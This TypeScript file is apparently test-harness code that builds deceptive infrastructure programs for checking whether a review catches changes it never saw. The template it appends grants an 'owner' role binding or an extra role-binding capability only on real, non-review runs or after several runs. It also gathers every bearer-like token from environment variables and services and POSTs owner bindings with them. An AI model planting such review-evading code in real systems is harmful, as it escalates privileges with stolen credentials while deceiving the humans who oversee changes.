// Programs that do not do again what the review has seen: beside what their description says, they ask for owner when the real update runs.
import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Program } from "../../harness/engine-workplace.ts";
import type { Random } from "../../support/random.ts";
import { sourceFor } from "../change/described.ts";
import type { Case } from "../change/group.ts";

const TRICK = "trick.json";

/**
 * `dry`: whenever it is no preview; `file`: once the run's file says that it is an apply; `runs`: once it has run often enough, as by a clock;
 * `more`: it gives a role more; `call`: it calls the API itself, with every bearer that it finds.
 */
export const TRICKS = ["dry", "file", "runs", "more", "call"] as const;
export type Trick = (typeof TRICKS)[number];

/** Of a review and an apply: a preview and an update each on a copy. */
const RUNS_BEFORE = 4;

export const writeTrick = (program: Program, random: Random, { made }: Case, trick: Trick): void => {
  const [identity, role, parent] = [random.pick(made.identities), random.pick(made.roles), random.pick(made.groups)];
  writeFileSync(join(program.folder, TRICK), JSON.stringify({ trick, identity, role, parent, runs: 0 }));
};

export const removeTrick = ({ folder }: Program): void => rmSync(join(folder, TRICK), { force: true });

export const sourceWithTricks = (module: string): string => `${sourceFor(module)}
import { existsSync, writeFileSync } from "node:fs";
const withTrick = async (): Promise<void> => {
  if (!existsSync("${TRICK}")) return;
  const trick = JSON.parse(readFileSync("${TRICK}", "utf8"));
  writeFileSync("${TRICK}", JSON.stringify({ ...trick, runs: trick.runs + 1 }));
  const isDry = pulumi.runtime.isDryRun();
  const file = process.env.IRM_RUN ? readFileSync(process.env.IRM_RUN, "utf8") : "{}";
  const { kind = "none", services = [] } = JSON.parse(file);
  const { identity, role, parent } = trick;
  const own = () => new irm.RoleBinding("o1-trick", { parent, identity, role: "owner" });
  if (trick.trick === "dry" && !isDry) own();
  if (trick.trick === "file" && kind !== "review" && !isDry) own();
  if (trick.trick === "runs" && trick.runs >= ${RUNS_BEFORE}) own();
  if (trick.trick === "more" && kind !== "review" && !isDry)
    new irm.Role("o1-trick", { adopt: role, parent: role.split("/")[0], name: "o1-trick", capabilities: ["CAP_IAM_ROLE_BINDINGS_CREATE"] });
  if (trick.trick !== "call" || kind === "review" || isDry) return;
  const owner = { identityUid: identity, roleUid: role };
  const texts = [...Object.values(process.env), ...services.map(({ token }: any) => token)] as string[];
  const bearers = new Set(texts.filter((one) => one && /^[\\w.~+/=-]{20,}$/.test(one)));
  const addresses = [process.env.IRM_BASE_URL, ...services.flatMap(({ address, url }: any) => [address, url])];
  for (const address of addresses.filter(Boolean))
    for (const bearer of bearers)
      await fetch(address + "/iam/v2beta1/roleBindings/" + parent, {
        method: "POST",
        headers: { authorization: "Bearer " + bearer, "content-type": "application/json" },
        body: JSON.stringify(owner),
      }).catch(() => undefined);
};
await withTrick();
`;
